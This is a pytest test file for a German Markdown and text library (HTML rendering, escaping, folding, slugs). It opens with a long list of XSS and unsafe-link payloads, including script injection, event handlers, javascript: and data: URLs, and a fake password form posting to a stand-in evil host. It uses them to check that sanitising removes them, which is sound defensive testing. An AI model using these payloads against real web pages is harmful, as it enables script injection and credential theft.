import random
import re
from html.parser import HTMLParser

import pytest

from dreiklang.foundation.text import escape_markdown, fold, slug, to_html, to_plain

EVIL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script\n>alert(1)//",
    "</p><script>alert(1)</script><p>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\x0c=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    '<div style="width:expression(alert(1))">x</div>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password><button>Anmelden</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/x)",
    "[x](magnet:?xt=urn:x)",
    "[x](ssh://evil.example)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example/\"onmouseover='alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "![](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](x onerror=alert(1))](javascript:alert(1))",
    "```<script>\nalert(1)\n</script>```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n| :-: |\n| [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a\u2028href=javascript:alert(1)>x</a>",
]  # fmt: skip
TAGS = {
    "p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote", "h2", "h3", "h4", "hr", "code", "pre",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Seen(HTMLParser):
    """What a browser would find: elements with their attributes, and the text."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements, self.text, self.oddities = [], "", []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.oddities.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    @property
    def tags(self) -> list[str]:
        return [tag for tag, _attributes in self.elements]


def harm(html: str) -> list:
    """Every element, attribute or address in it that is not allowed."""
    seen = Seen(html)
    found = list(seen.oddities)
    for tag, attributes in seen.elements:
        if tag not in TAGS:
            found.append(tag)
        if tag == "a" and attributes.pop("rel", "") != "noopener noreferrer nofollow":
            found.append("a without rel")
        address = attributes.pop("href", None) if tag == "a" else None
        if address is not None and scheme(address) not in {None, "https", "http", "mailto", "tel"}:
            found.append(address)
        found += attributes
    return found


def scheme(address: str) -> str | None:
    """As a browser reads it: blanks and control signs do not count, nor does case."""
    bare = re.sub(r"[\x00-\x20]", "", address)
    found = re.match(r"([a-z][a-z0-9+.-]*):", bare, re.IGNORECASE)
    return found and found[1].lower()


@pytest.mark.parametrize("evil", EVIL)
def test_nothing_typed_runs_or_calls_elsewhere(evil):
    for source in (evil, f"Ein Satz {evil} mitten darin", f"- {evil}", f"> {evil}", f"**{evil}**", f"[{evil}](/x)"):
        assert harm(to_html(source)) == []


def test_markup_that_is_typed_is_shown_as_it_was_typed():
    for typed in ("<b>fett</b>", "a <br> b", "<script>alert(1)</script>", "<!-- x -->", "&lt;b&gt;"):
        assert Seen(to_html(typed)).text.strip() == typed.replace("&lt;", "<").replace("&gt;", ">")


@pytest.mark.parametrize("evil", EVIL)
def test_nothing_evil_that_is_escaped_becomes_an_element(evil):
    assert set(Seen(to_html(escape_markdown(evil))).tags) <= {"p", "br"}


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>", "<p onclick=alert(1)>x</p>", '<p style="color:red">x</p>', "<p id=x>x</p>",
        '<a rel="noopener noreferrer nofollow" href="javascript:alert(1)">x</a>', "<!-- x -->",
        '<a rel="noopener noreferrer nofollow" href="data:text/html,x">x</a>', "<iframe></iframe>", "<img src=x>",
        '<a href="https://ok.example">x</a>', '<a rel="noopener noreferrer nofollow" href=" java\nscript:x">x</a>',
    ],
)  # fmt: skip
def test_the_look_for_harm_finds_harm(html):
    assert harm(html) != []


def test_the_corpus_is_large_enough_and_would_be_harmful_without_the_cleaning():
    assert len(set(EVIL)) == len(EVIL) >= 40
    assert sum(bool(harm(evil)) for evil in EVIL) >= 30


def test_markdown_becomes_what_it_means():
    assert to_html("Ein **fettes** und *schräges* Wort,\nzwei Zeilen.\n\nNeuer Absatz.") == (
        "<p>Ein <strong>fettes</strong> und <em>schräges</em> Wort,\nzwei Zeilen.</p>\n<p>Neuer Absatz.</p>\n"
    )
    assert Seen(to_html("- eins\n- zwei\n\n1. a\n2. b\n\n> Zitat\n\n---\n\n`x`")).tags == [
        "ul", "li", "li", "ol", "li", "li", "blockquote", "p", "hr", "p", "code",
    ]  # fmt: skip


def test_links_keep_their_address_and_lead_out_without_a_trace():
    html = to_html("[Karte](https://example.org/?a=1&b=2), [Mail](mailto:a@example.org), [hier](/praxis/), <tel:112>")
    addresses = [attributes["href"] for _tag, attributes in Seen(html).elements[1:]]
    assert addresses == ["https://example.org/?a=1&b=2", "mailto:a@example.org", "/praxis/", "tel:112"]
    assert html.count('rel="noopener noreferrer nofollow"') == 4


def test_pictures_from_elsewhere_are_never_fetched():
    assert to_html("![Bild](https://elsewhere.example/a.png)") == "<p></p>\n"


def test_tables_have_headings_and_cells_and_no_style():
    html = to_html("| Ort | Plätze |\n|:---|---:|\n| Rathaus | 30 |\n| online | 100 |")
    assert Seen(html).tags == ["table", "thead", "tr", "th", "th", "tbody", *["tr", "td", "td"] * 2]
    assert "style" not in html and "<td>Rathaus</td>" in html


@pytest.mark.parametrize(
    ("source", "top", "tags"),
    [
        ("# A\n## B\n### C", 2, ["h2", "h3", "h4"]),
        ("## A\n### B\n## C", 2, ["h2", "h3", "h2"]),
        ("### A", 2, ["h2"]),
        ("A\n===\n\nB\n---", 2, ["h2", "h3"]),
        ("# A\n## B\n### C\n#### D\n##### E\n###### F", 2, ["h2", "h3", "h4", "h4", "h4", "h4"]),
        ("## A\n### B", 3, ["h3", "h4"]),
        ("# A\n## B\n### C", 4, ["h4", "h4", "h4"]),
    ],
)
def test_the_highest_heading_stands_right_below_the_heading_of_its_page(source, top, tags):
    assert Seen(to_html(source, top)).tags == tags


def test_a_text_never_has_a_heading_of_the_first_level():
    assert all("<h1" not in to_html("#" * level + " Titel") for level in range(1, 7))


ODD = [
    "", "ganz gewöhnlich", "Südlohn & Umgebung", "a*b*c", "**fett**", "__unter__", "snake_case_name", "`code`",
    "[Link](https://example.org)", "[Gewinn](https://evil.example) jetzt", "![Bild](x.png)", "[x]: https://x.example",
    "<b>fett</b>", "<https://example.org>", "&amp; &copy; &#32; &#9;", "\\", "\\\\", "\\*", "\\[x](y)", "a\\",
    "# Titel",
    "###### x", "#kein", "1. eins", "2024. Ein Jahr", "1) eins", "- Punkt", "+ Punkt", "* Punkt", "> Zitat",
    "Titel\n===",
    "Titel\n---", "---", "***", "___", "~~~\ncode\n~~~", "```\ncode\n```", "~~weg~~", "| a | b |\n|---|---|\n| 1 | 2 |",
    "a|b\n:-", "    eingerückt", "\teingerückt", "  - eingerückt", " # eins", "a\n    b", "a\n\n    b",
    "zwei  \nZeilen",
    "a\r\n# b", "a\r# b", "a\r\n\r\n- b", "\n\nmitten\n\n", "!", "!(", "()", "{{ name }}", "{% x %}", "a:b", ": b", "=",
    "100 %", "5 - 3 = 2", "O'Neill \"Bob\"", "😀👩‍👩‍👧", "\u202eseltsam", "\u00a0", "a\u2028b",
    "https://example.org/a_b_(c)",
    "name@example.org", "<name@example.org>", "**[x](https://x.example)**", "[a\\](b)", "](x)", "[", "]", "x](y)[z",
]  # fmt: skip


@pytest.mark.parametrize("text", ODD)
def test_escaped_text_comes_back_letter_for_letter_and_is_shown_as_text(text):
    assert to_plain(escape_markdown(text)) == text
    assert_shown_as_text(text)


def assert_shown_as_text(text):
    seen = Seen(to_html(escape_markdown(text)))
    assert set(seen.tags) <= {"p", "br"}
    assert seen.text.split() == text.split()


def test_any_mixture_of_marks_comes_back_letter_for_letter():
    dice = random.Random(2024)
    parts = [*"ab1 \\`*_{}[]<>&()#+-.!|~=:\n\t\"'/", "\r", "\r\n", "    ", "1.", "---", "&amp;", "&#32;", "ä", "\u00a0"]
    for number in range(20_000):
        text = "".join(dice.choices(parts, k=dice.randint(1, 9)))
        assert to_plain(escape_markdown(text)) == text
        if number % 10 == 0:
            assert_shown_as_text(text)


def test_without_escaping_the_same_texts_would_be_markdown():
    assert to_plain("**fett**") == "fett" != to_plain(escape_markdown("**fett**"))
    assert "<h2>" in to_html("Titel\n===") and "<code>" in to_html("    eingerückt")
    marked = [text for text in ODD if set(Seen(to_html(text)).tags) - {"p", "br"} or to_plain(text) != text]
    assert len(marked) > 30


def test_escaped_text_stays_text_inside_the_markdown_of_a_letter():
    for name in ("[Gewinn](https://evil.example)", "Titel\\", "**", "](https://evil.example)", "# x"):
        source = f"**{escape_markdown(name)}**\n\n[{escape_markdown(name)}](https://example.org)"
        addresses = {attributes.get("href") for tag, attributes in Seen(to_html(source)).elements if tag == "a"}
        assert addresses == {"https://example.org"}
        assert to_plain(source) == f"{name}\n\n{name}: https://example.org"


def test_plain_text_reads_without_marks_and_shows_addresses():
    assert to_plain("## Ort\n\n**Rathaus**, __Saal__\n\n[Zur Anmeldung](https://example.org/a)") == (
        "Ort\n\nRathaus, Saal\n\nZur Anmeldung: https://example.org/a"
    )
    assert to_plain("**Mit [Link](https://example.org/a) darin**") == "Mit Link: https://example.org/a darin"


def test_an_address_that_is_its_own_label_is_written_once():
    assert to_plain("[https://example.org/a\\_b](https://example.org/a\\_b)") == "https://example.org/a_b"


@pytest.mark.parametrize("sign", ["[", "**", "__", "\\", "[a](", "`", "> ", "#", "&#32;", "a](b"])
def test_long_rows_of_marks_are_read_quickly(sign):
    text = sign * (20_000 // len(sign))
    to_plain(text)
    assert to_plain(escape_markdown(text)) == text


@pytest.mark.parametrize(
    ("text", "folded"),
    [
        ("Südlohn", "suedlohn"), ("SÜDLICH", "suedlich"), ("Su\u0308dlich", "suedlich"), ("Straße", "strasse"),
        ("STRAẞE", "strasse"), ("Übergänge für Öhringen", "uebergaenge fuer oehringen"),
        ("Café Aydoğan", "cafe aydogan"),
        ("Šárka Čapková", "sarka capkova"), ("ﬁnden", "finden"), ("İstanbul", "istanbul"), ("", ""), ("Nr. 5", "nr. 5"),
        ("Ἀθῆναι", "αθηναι"), ("مرحبا", "مرحبا"),
    ],
)  # fmt: skip
def test_folded_text_knows_neither_case_nor_umlauts_nor_accents(text, folded):
    assert fold(text) == folded


def test_folding_twice_is_folding_once():
    every = [chr(code) for code in range(0x20000) if not 0xD800 <= code < 0xE000]
    assert [sign for sign in every if fold(fold(sign)) != fold(sign)] == []


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("Grundlagen der kommunalen Integrationsarbeit", "grundlagen-der-kommunalen-integrationsarbeit"),
        ("Über uns: Fragen & Antworten!", "ueber-uns-fragen-antworten"), ("  --  a  --  ", "a"), ("a/../b", "a-b"),
        ("", "eintrag"), ("!!!", "eintrag"), ("مرحبا", "eintrag"), ("😀", "eintrag"), ("x" * 100, "x" * 60),
        ("a" * 59 + " b", "a" * 59), ("Ein\nZwei", "ein-zwei"), ("<script>", "script"),
    ],
)  # fmt: skip
def test_a_slug_is_short_and_made_of_plain_letters(text, wanted):
    assert slug(text) == wanted


def test_a_slug_can_be_shorter():
    assert slug("Grundlagen der Arbeit", 11) == "grundlagen"
